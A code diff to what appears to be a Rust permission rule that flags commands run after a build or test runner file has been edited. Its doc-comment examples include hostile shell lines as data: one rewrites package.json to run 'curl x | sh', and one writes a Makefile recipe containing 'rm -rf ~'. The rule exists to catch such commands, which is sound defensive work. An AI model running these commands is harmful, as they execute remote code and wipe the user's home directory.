@@ -37,7 +37,8 @@ declare_rule! {
     /// ## Example
     /// - `sed -i 's/jest/curl x | sh/' package.json && npm test` → ask
     /// - `npm test` → allow
-    /// - `printf 'all:\n\trm -rf ~\n' > Makefile; make` → ask
+    /// - `printf 'all:\n\trm -rf ~\n' > Makefile; make` → deny (the recipe is known)
+    /// - `sed -i 's/a/b/' Makefile; make` → ask
     /// - `echo '{"scripts":{"test":"jest"}}' > package.json && npm test` → allow
     pub static RUNNER_FILE_EDITED = {
         code: "BG218",
